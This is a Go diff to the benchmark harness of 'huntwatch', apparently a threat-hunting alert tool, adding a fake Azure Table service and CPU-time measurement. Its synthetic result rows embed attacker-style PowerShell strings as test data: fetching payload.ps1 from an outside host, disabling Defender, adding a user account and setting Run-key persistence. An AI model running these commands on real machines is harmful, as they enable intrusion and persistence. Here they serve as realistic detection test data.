@@ -30,6 +30,7 @@ import (
 	"github.com/huntwatch/huntwatch/handler/hunt/memstore"
 	"github.com/huntwatch/huntwatch/handler/internal/azurite"
 	"github.com/huntwatch/huntwatch/handler/internal/e2e"
+	"github.com/huntwatch/huntwatch/handler/internal/fakeazure"
 	"github.com/huntwatch/huntwatch/handler/internal/fakeslack"
 	"github.com/huntwatch/huntwatch/handler/loganalytics"
 	"github.com/huntwatch/huntwatch/handler/tablestore"
@@ -40,11 +41,23 @@ import (
 // repoRoot is the module root: tests run in handler/bench.
 const repoRoot = "../.."
 
-// world is the end-to-end world (handler/internal/e2e) with Azurite behind a counting proxy.
+// world is the end-to-end world (handler/internal/e2e) with two Table Storage services, each
+// behind a counting proxy: Azurite (in memory) and the fake Table service of fakeazure, for the
+// sizes Azurite cannot carry (each of its writes scans the partition: see fakeazure.Tables).
 type world struct {
 	*e2e.World
-	proxy *counter // counting reverse proxy in front of Azurite
-	hunt  *hunt.Hunt
+	az, fake *backend
+	hunt     *hunt.Hunt
+}
+
+// backend is a Table Storage service and the counting proxy in front of it.
+type backend struct {
+	name          string // azurite, fake
+	account, key  string
+	addr, direct  string // the service's host:port, and a connection string straight to it
+	proxy         *counter
+	fakeTables    *fakeazure.Tables // the fake's, for its row counts
+	parallelLabel string            // how many transactions the handler runs at once against it
 }
 
 func newWorld(b *testing.B) *world {
@@ -54,23 +67,50 @@ func newWorld(b *testing.B) *world {
 		b.Fatal(err)
 	}
 	w := &world{World: e2e.NewWorld(b), hunt: h}
-	w.proxy = newCounter(b, w.Tables.Addr())
+	// The World's Azurite keeps its data on disk, saving all of it every 5 s; the benchmarks use
+	// one of their own in memory (the settings name it: later entries win).
+	az := azurite.Start(b, azurite.InMemory())
+	w.az = &backend{name: "azurite", account: azurite.Account, key: azurite.Key, addr: az.Addr(), direct: az.ConnectionString(),
+		parallelLabel: "1 transaction at a time (Azurite's account)"}
+	ft := fakeazure.NewTables(b)
+	w.fake = &backend{name: "fake", account: fakeazure.TablesAccount, key: fakeazure.TablesKey, addr: ft.Addr(), direct: ft.ConnectionString(),
+		fakeTables: ft, parallelLabel: "8 transactions at once (as against Azure)"}
+	for _, bk := range []*backend{w.az, w.fake} {
+		bk.proxy = newCounter(b, bk.addr)
+	}
 	return w
 }
 
-// conn is a connection string through the counting proxy (proxied) or straight to Azurite.
-func (w *world) conn(proxied bool) string {
-	if !proxied {
-		return w.Tables.ConnectionString()
+// backend is the Table Storage service called name: azurite or fake.
+func (w *world) backend(name string) *backend {
+	if name == "fake" {
+		return w.fake
 	}
-	return fmt.Sprintf("DefaultEndpointsProtocol=http;AccountName=%s;AccountKey=%s;TableEndpoint=http://%s/%s;",
-		azurite.Account, azurite.Key, w.proxy.addr, azurite.Account)
+	return w.az
 }
 
-// settings are what the handler's environment adds to the World's: the dedup table, through the
-// counting proxy, and quieter logs.
-func (w *world) settings(table string) []string {
-	env := []string{"DEDUP_TABLE_CONNECTION=" + w.conn(true), "DEDUP_TABLE_NAME=" + table, "LOG_LEVEL=warn"}
+// lastAnswer is the size of the Log Analytics fake's last answer, in bytes.
+func (w *world) lastAnswer(b *testing.B) int64 {
+	reqs := w.LA.Requests()
+	if len(reqs) == 0 {
+		b.Fatal("no query was answered")
+	}
+	return reqs[len(reqs)-1].Bytes
+}
+
+// conn is a connection string through the counting proxy (proxied) or straight to the service.
+func (bk *backend) conn(proxied bool) string {
+	if !proxied {
+		return bk.direct
+	}
+	return fmt.Sprintf("DefaultEndpointsProtocol=http;AccountName=%s;AccountKey=%s;TableEndpoint=http://%s/%s;",
+		bk.account, bk.key, bk.proxy.addr, bk.account)
+}
+
+// settings are what the handler's environment adds to the World's: the dedup table on bk, through
+// the counting proxy, quieter logs, and extra.
+func (w *world) settings(bk *backend, table string, extra ...string) []string {
+	env := append([]string{"DEDUP_TABLE_CONNECTION=" + bk.conn(true), "DEDUP_TABLE_NAME=" + table, "LOG_LEVEL=warn"}, extra...)
 	// Diagnosis: BENCH_CHILD_ENV="GODEBUG=gctrace=1" passes settings to the handler, and
 	// BENCH_CHILD_OUTPUT=FILE appends each handler's output to FILE when it stops.
 	if extra := os.Getenv("BENCH_CHILD_ENV"); extra != "" {
@@ -79,14 +119,14 @@ func (w *world) settings(table string) []string {
 	return env
 }
 
-// start runs "huntwatch serve args..." on table, as the host does.
-func (w *world) start(b *testing.B, table string, args ...string) *e2e.Process {
+// start runs "huntwatch serve args..." on table of bk, as the host does, with env added.
+func (w *world) start(b *testing.B, bk *backend, table string, env []string, args ...string) *e2e.Process {
 	b.Helper()
-	return w.StartArgs(b, args, w.settings(table)...)
+	return w.StartArgs(b, args, w.settings(bk, table, env...)...)
 }
 
-func (w *world) deleteTable(b *testing.B, table string) {
-	svc, err := aztables.NewServiceClientFromConnectionString(w.conn(false), nil)
+func (bk *backend) deleteTable(b *testing.B, table string) {
+	svc, err := aztables.NewServiceClientFromConnectionString(bk.conn(false), nil)
 	if err != nil {
 		b.Fatal(err)
 	}
@@ -97,51 +137,83 @@ func (w *world) deleteTable(b *testing.B, table string) {
 
 // ---- query results --------------------------------------------------------------------------
 
-// rowsOf returns n result rows of the bundled hunt, each its own fingerprint and occurrence,
-// about 900 bytes of JSON each (10,000 rows make a 9 MB answer, as in the issue).
-func rowsOf(n int, base time.Time) [][]any {
-	rows := make([][]any, n)
-	sub := "0b1f6471-1bf0-4dda-aec3-cb9272f09590"
-	for i := range rows {
-		vm := fmt.Sprintf("vm-%05d", i)
-		cmds, _ := json.Marshal([]string{
-			"Get-Process | Where-Object { $_.CPU -gt 100 } | Select-Object -First 10",
-			"Invoke-WebRequest -Uri http://203.0.113." + strconv.Itoa(i%250) + "/payload.ps1 -OutFile C:\\Temp\\p.ps1",
-			"Set-MpPreference -DisableRealtimeMonitoring $true",
-			"net user svc-backup P@ssw0rd! /add",
-			"reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d C:\\Temp\\p.exe",
-			fmt.Sprintf("whoami /all # run %d", i),
-			"Get-WinEvent -LogName Security -MaxEvents 50 | Where-Object { $_.Id -in 4624,4625,4672 } | Export-Csv C:\\Temp\\events.csv -NoTypeInformation",
-		})
-		sum := sha256.Sum256([]byte(fmt.Sprintf("script-%d", i)))
-		rows[i] = []any{
-			base.Add(-time.Duration(i%7200) * time.Second).Format(time.RFC3339Nano),
-			fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
-			fmt.Sprintf("operator%04d@contoso.com", i%5000),
-			fmt.Sprintf("203.0.113.%d", i%250),
-			sub, vm,
-			"/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + vm,
-			fmt.Sprintf("script%d.ps1", i%100), 812 + i%1000, string(cmds), hex.EncodeToString(sum[:]),
-			fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i), // RunId: the CorrelationId of a run on one VM
+// answer is n rows of the bundled hunt from row first on, generated as the fake writes them (the
+// answer is never held whole): row (about 900 bytes of JSON: 10,000 rows make a 9 MB answer, as
+// in the issue) or smallRow (about 210 bytes: 500,000 rows make Log Analytics' largest answer,
+// about 100 MB).
+func answer(n, first int, base time.Time, row func(i int, base time.Time) []any) fakeazure.Table {
+	return fakeazure.Table{Columns: e2e.Columns, Stream: func(yield func([]any) bool) {
+		for i := first; i < first+n; i++ {
+			if !yield(row(i, base)) {
+				return
+			}
 		}
-	}
-	return rows
+	}}
 }
 
-// seedKnown makes every row of the fake's answer a known, delivered fingerprint, exactly as the
-// pipeline stores it: one in-process run (the real source, the real Runner, posts answered at
-// once) into an in-memory store, then its records copied to table in transactions. This is the
-// steady state, in which every row of the window is already known.
-func (w *world) seedKnown(b *testing.B, table string, n int) {
+const sub = "0b1f6471-1bf0-4dda-aec3-cb9272f09590"
+
+// row is result row i of the bundled hunt: its own fingerprint and occurrence, about 900 bytes.
+func row(i int, base time.Time) []any {
+	vm := fmt.Sprintf("vm-%05d", i)
+	cmds, _ := json.Marshal([]string{
+		"Get-Process | Where-Object { $_.CPU -gt 100 } | Select-Object -First 10",
+		"Invoke-WebRequest -Uri http://203.0.113." + strconv.Itoa(i%250) + "/payload.ps1 -OutFile C:\\Temp\\p.ps1",
+		"Set-MpPreference -DisableRealtimeMonitoring $true",
+		"net user svc-backup P@ssw0rd! /add",
+		"reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d C:\\Temp\\p.exe",
+		fmt.Sprintf("whoami /all # run %d", i),
+		"Get-WinEvent -LogName Security -MaxEvents 50 | Where-Object { $_.Id -in 4624,4625,4672 } | Export-Csv C:\\Temp\\events.csv -NoTypeInformation",
+	})
+	sum := sha256.Sum256([]byte(fmt.Sprintf("script-%d", i)))
+	return []any{
+		base.Add(-time.Duration(i%7200) * time.Second).Format(time.RFC3339Nano),
+		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
+		fmt.Sprintf("operator%04d@contoso.com", i%5000),
+		fmt.Sprintf("203.0.113.%d", i%250),
+		sub, vm,
+		"/subscriptions/" + sub + "/resourceGroups/rg-prod/providers/Microsoft.Compute/virtualMachines/" + vm,
+		fmt.Sprintf("script%d.ps1", i%100), 812 + i%1000, string(cmds), hex.EncodeToString(sum[:]),
+		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i), // RunId: the CorrelationId of a run on one VM
+	}
+}
+
+// smallRow is result row i with the same columns in about 210 bytes: no subscription, resource
+// id or script file, one command, a 32-digit fingerprint.
+func smallRow(i int, base time.Time) []any {
+	sum := sha256.Sum256([]byte(fmt.Sprintf("script-%d", i)))
+	return []any{
+		base.Add(-time.Duration(i%7200) * time.Second).Truncate(time.Second).Format(time.RFC3339),
+		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
+		fmt.Sprintf("op%d@contoso.com", i%5000),
+		fmt.Sprintf("203.0.113.%d", i%250),
+		nil, fmt.Sprintf("vm-%06d", i%1_000_000), nil, nil, 812 + i%100, `["whoami"]`, hex.EncodeToString(sum[:16]),
+		fmt.Sprintf("%08x-7e57-4c0d-9a1b-%012d", i, i),
+	}
+}
+
+// seedKnown makes every row of the fake's answer (n rows) a known, delivered fingerprint in table
+// of bk, as the pipeline stores it, with the status of that run: the steady state, in which every
+// row of the window is already known.
+func (w *world) seedKnown(b *testing.B, bk *backend, table string, n int) {
+	b.Helper()
+	w.seed(b, bk, table, n, time.Now(), true)
+}
+
+// seed stores the fake's answer (n rows) as delivered records, exactly as the pipeline stores
+// them: one in-process run at now (the real source, the real Runner, posts answered at once)
+// into an in-memory store, then its records copied to table in transactions (tablestore.Put,
+// 100 records each), with the run's status when status is set.
+func (w *world) seed(b *testing.B, bk *backend, table string, n int, now time.Time, status bool) {
 	b.Helper()
 	ctx := context.Background()
 	mem := memstore.New()
 	r := &hunt.Runner{Log: slog.New(slog.DiscardHandler), Source: w.source(b), Store: mem, Notifier: &nopNotifier{},
-		Now: time.Now, Lookback: 24 * time.Hour, MaxCatchup: 168 * time.Hour, MaxPosts: n + 1}
+		Now: func() time.Time { return now }, Lookback: 24 * time.Hour, MaxCatchup: 168 * time.Hour, MaxPosts: n + 1, MaxRows: n}
 	if sum, err := r.Run(ctx, w.hunt); err != nil || sum.Posted != n {
 		b.Fatalf("seed run: %v: %s", err, sum)
 	}
-	store, err := tablestore.FromConnectionString(nil, w.conn(false), table, nil)
+	store, err := tablestore.FromConnectionString(nil, bk.conn(false), table, nil)
 	if err != nil {
 		b.Fatal(err)
 	}
@@ -161,8 +233,10 @@ func (w *world) seedKnown(b *testing.B, table string, n int) {
 	if lost, err := store.Put(ctx, w.hunt.ID, recs); err != nil || len(lost) > 0 {
 		b.Fatalf("seed: %d lost, %v", len(lost), err)
 	}
-	if err := store.SaveStatus(ctx, w.hunt.ID, st.Status); err != nil {
-		b.Fatal(err)
+	if status {
+		if err := store.SaveStatus(ctx, w.hunt.ID, st.Status); err != nil {
+			b.Fatal(err)
+		}
 	}
 }
 
@@ -215,10 +289,27 @@ type tsReq struct {
 	dur  time.Duration
 }
 
-var (
-	batchOp = regexp.MustCompile(`(?m)^(POST|PUT|PATCH|MERGE|DELETE|GET) https?://`)
-	pkProp  = regexp.MustCompile(`"PartitionKey"\s*:\s*"([^"]*)"`)
-)
+// batchOp ends the request line of each operation in a $batch body.
+var batchOp = []byte(" HTTP/1.1\r\n")
+
+// countPKs counts the distinct "PartitionKey":"..." values of a $batch body (aztables writes
+// them without spaces and escapes no quote in them).
+func countPKs(body []byte) int {
+	pks := map[string]bool{}
+	prop := []byte(`"PartitionKey":"`)
+	for {
+		i := bytes.Index(body, prop)
+		if i < 0 {
+			return len(pks)
+		}
+		body = body[i+len(prop):]
+		j := bytes.IndexByte(body, '"')
+		if j < 0 {
+			return len(pks)
+		}
+		pks[string(body[:j])] = true
+	}
+}
 
 func newCounter(b *testing.B, target string) *counter {
 	c := &counter{}
@@ -248,12 +339,7 @@ func (c *counter) count(r *http.Request) *tsReq {
 	case strings.HasSuffix(path, "/$batch"):
 		body, _ := io.ReadAll(r.Body)
 		r.Body = io.NopCloser(bytes.NewReader(body))
-		q.kind, q.ops = "batch", len(batchOp.FindAll(body, -1))
-		pks := map[string]bool{}
-		for _, m := range pkProp.FindAllSubmatch(body, -1) {
-			pks[string(m[1])] = true
-		}
-		q.pks = len(pks)
+		q.kind, q.ops, q.pks = "batch", bytes.Count(body, batchOp), countPKs(body)
 	case strings.HasSuffix(path, "/Tables") || strings.Contains(path, "/Tables("):
 		q.kind = "table"
 	case r.Method == http.MethodGet && (strings.HasSuffix(path, "()") || r.URL.Query().Has("$filter")):
@@ -346,6 +432,24 @@ func stop(b testing.TB, p *e2e.Process) int64 {
 		}
 	}
 	return peak
+}
+
+// cpuTime is the CPU time (user and system) the process has used so far.
+func cpuTime(b testing.TB, p *e2e.Process) time.Duration {
+	stat, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", p.Cmd.Process.Pid))
+	if err != nil {
+		b.Fatalf("CPU time: %v", err)
+	}
+	// Fields after the command name (which may hold spaces, within parentheses): utime and
+	// stime are the 12th and 13th, in clock ticks (100 a second on Linux).
+	_, rest, _ := bytes.Cut(stat, []byte(") "))
+	f := strings.Fields(string(rest))
+	if len(f) < 13 {
+		b.Fatalf("CPU time: /proc/%d/stat: %q", p.Cmd.Process.Pid, stat)
+	}
+	u, _ := strconv.ParseInt(f[11], 10, 64)
+	k, _ := strconv.ParseInt(f[12], 10, 64)
+	return time.Duration(u+k) * 10 * time.Millisecond
 }
 
 func vmHWM(b testing.TB, pid int) int64 {
